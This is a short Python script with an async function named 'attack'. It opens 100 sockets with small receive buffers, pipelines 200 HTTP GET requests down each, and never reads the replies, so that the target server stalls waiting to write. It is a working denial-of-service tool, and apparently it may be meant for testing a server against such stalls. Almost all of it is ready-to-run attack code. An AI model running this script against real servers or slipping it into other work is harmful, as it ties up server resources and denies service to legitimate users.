"""Many pipelined requests for the page, and no answer is read: the server would wait for room in the socket for ever."""

import asyncio
import socket
from contextlib import suppress

CONNECTIONS = 100
REQUESTS = 200


async def attack(host: str, port: int) -> None:
    loop, opened = asyncio.get_running_loop(), []

    async def one() -> None:
        made = socket.socket()
        opened.append(made)
        made.setblocking(False)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        with suppress(OSError):
            await loop.sock_connect(made, (host, port))
            await loop.sock_sendall(made, b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n" * REQUESTS)
        await asyncio.sleep(3600)

    try:
        async with asyncio.TaskGroup() as group:
            for _ in range(CONNECTIONS):
                group.create_task(one())
                await asyncio.sleep(0.02)
    finally:
        for each in opened:
            each.close()
